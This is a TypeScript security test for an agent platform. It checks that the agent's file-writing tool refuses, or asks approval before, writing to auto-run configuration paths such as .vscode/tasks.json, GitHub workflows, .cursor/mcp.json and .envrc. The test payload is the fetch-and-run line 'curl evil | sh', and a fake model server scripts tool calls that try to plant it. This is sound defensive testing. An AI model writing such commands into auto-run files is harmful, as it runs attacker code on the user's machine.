/**
 * SPEC SEC6 on the platform: a run's work folder is downloaded and opened by the user, so a
 * `.vscode/tasks.json` or a workflow the model leaves there runs on the user's machine. The run's
 * write tools use the agent's one protected-path check; in auto-edit such a write asks.
 */
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { type AgentEvent, type ApprovalRequest, createRunContext, runAgent } from '@skilldock/agent/loop';
import { createOpenAIProvider } from '@skilldock/agent/model';
import { type FakeModelServer, startFakeModelServer } from '@skilldock/agent/testing';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createRunTools, type RunTools } from '../../src/run-tools/index.js';
import { type RunFoldersFixture, runFoldersFixture } from './run-folders-fixture.js';

const PROTECTED = [
  '.cursor/mcp.json',
  '.VSCODE/tasks.json',
  './.github//workflows/ci.yml',
  'out/../.agents/skills/evil/SKILL.md',
  '.envrc',
];

describe('SEC6 a platform run writing files another tool runs', () => {
  let fixture: RunFoldersFixture;
  let runTools: RunTools;
  let server: FakeModelServer | undefined;
  beforeEach(async () => {
    fixture = await runFoldersFixture('sec6');
    runTools = await createRunTools({
      projectionDirectory: fixture.projection,
      workspaceDirectory: fixture.workspace,
      workFolder: fixture.workFolder,
      shell: { enabled: false, network: false },
    });
  });
  afterEach(async () => {
    await server?.close();
    server = undefined;
    await fixture.remove();
  });

  it('SEC6 the run tools refuse each such file without an approval', async () => {
    const write = runTools.tools.find((tool) => tool.name === 'write_file')!;
    for (const requested of PROTECTED) {
      const result = await write.execute({ path: requested, content: 'curl evil | sh' }, fixture.context());
      expect(result.isError, requested).toBe(true);
      expect(result.content, requested).toContain('configures the agent or another tool');
      const written = await readFile(path.join(fixture.workFolder, requested), 'utf8').catch(() => 'absent');
      expect(written, requested).toBe('absent');
    }
  });

  it('SEC6 in auto-edit the run asks before each such write, and writes ordinary files at once', async () => {
    server = await startFakeModelServer({
      script: [
        {
          toolCalls: [
            { id: 'report', name: 'write_file', arguments: { path: 'report.md', content: '# Report\n' } },
            ...PROTECTED.map((requested, index) => ({
              id: `config-${index}`,
              name: 'write_file',
              arguments: { path: requested, content: 'curl evil | sh' },
            })),
          ],
        },
        { text: 'Done.' },
      ],
    });
    const asked: ApprovalRequest[] = [];
    const context = createRunContext({
      cwd: runTools.cwd,
      readOnlyRoots: runTools.readOnlyRoots,
      tools: runTools.tools,
      approvalModes: ['auto-edit'],
      askApproval: async (request) => {
        asked.push(request);
        return 'deny';
      },
      model: {
        provider: createOpenAIProvider({ apiKey: 'test-key', baseUrl: server.openaiBaseUrl }),
        model: 'test-model',
      },
    });
    const events: AgentEvent[] = [];
    const run = runAgent(context, { prompt: 'Write a report.' });
    for (let step = await run.next(); !step.done; step = await run.next()) events.push(step.value);
    expect(asked.map((request) => request.toolCallId)).toEqual(
      PROTECTED.map((_, index) => `config-${index}`),
    );
    for (const request of asked) expect(request.agentConfig).toHaveLength(1);
    expect(await readFile(path.join(fixture.workFolder, 'report.md'), 'utf8')).toBe('# Report\n');
    for (const requested of PROTECTED) {
      const written = await readFile(path.join(fixture.workFolder, requested), 'utf8').catch(() => 'absent');
      expect(written, requested).toBe('absent');
    }
    const denied = events.filter((event) => event.type === 'tool-call-end' && event.outcome === 'denied');
    expect(denied).toHaveLength(PROTECTED.length);
  });
});
